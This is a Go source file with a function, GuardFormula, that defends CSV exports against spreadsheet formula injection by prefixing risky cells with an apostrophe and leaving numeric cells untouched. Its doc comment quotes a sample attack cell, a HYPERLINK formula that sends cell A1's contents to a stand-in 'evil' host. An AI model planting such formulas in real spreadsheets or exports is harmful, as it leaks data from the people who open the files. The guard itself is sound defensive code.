package export

import (
	"math"
	"strconv"
)

// GuardFormula neutralises CSV formula injection (OWASP "CSV Injection"):
// a spreadsheet runs a text cell that starts with =, +, -, @, a tab or a
// carriage return as a formula, so a segment named
// =HYPERLINK("http://evil/?"&A1) would run on the reader's machine. Such
// cells get a leading apostrophe, which spreadsheets show as text. Cells
// that are numbers ("-12.5", "+3", "1e5") stay numbers. Every CSV the
// site offers is written through this guard.
func GuardFormula(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
	default:
		return s
	}
	if v, err := strconv.ParseFloat(s, 64); err == nil && !math.IsInf(v, 0) && !math.IsNaN(v) {
		return s
	}
	return "'" + s
}
